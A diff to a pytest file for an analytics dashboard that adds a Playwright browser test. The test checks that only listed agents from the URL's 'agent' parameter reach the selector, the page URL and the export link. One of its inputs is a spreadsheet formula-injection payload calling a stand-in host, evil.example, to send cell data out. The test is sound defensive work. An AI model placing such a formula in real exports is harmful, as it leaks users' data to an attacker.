@@ -8,7 +8,7 @@ from collections.abc import Iterator
 from datetime import date, timedelta
 from pathlib import Path
 from typing import Any
-from urllib.parse import parse_qs, urlsplit
+from urllib.parse import parse_qs, urlencode, urlsplit
 
 import pytest
 from rbm_analytics.core.timeutil import today_utc
@@ -317,3 +317,29 @@ def test_today_dashed_window_shaded_units_compare_and_copy_link(
         finally:
             browser.close()
     assert console_errors == []
+
+
+def test_an_agent_in_the_address_reaches_the_export_link_only_if_the_export_lists_it(
+    served: str, warehouse: Warehouse
+) -> None:
+    if not Path(CHROMIUM).exists():
+        pytest.skip("Debian's chromium is not installed: run 'make browser'")
+    from playwright.sync_api import sync_playwright
+
+    warehouse.load("daily_metrics", _data())
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+        try:
+            page = browser.new_page()
+            for wanted, selected in ((formula, ""), ("ghost-agent", ""), (AGENTS[1], AGENTS[1])):
+                query = urlencode({"start": START, "end": END, "agent": wanted, "compare": wanted})
+                page.goto(f"{served}/ui?{query}")
+                _ready(page)
+                assert page.locator("#agent").input_value() == selected
+                link = parse_qs(urlsplit(page.locator("#export-link").get_attribute("href")).query)
+                assert link.get("agent", [""]) == [selected]
+                assert parse_qs(urlsplit(page.url).query).get("agent", [""]) == [selected]
+                assert formula not in page.content()
+        finally:
+            browser.close()
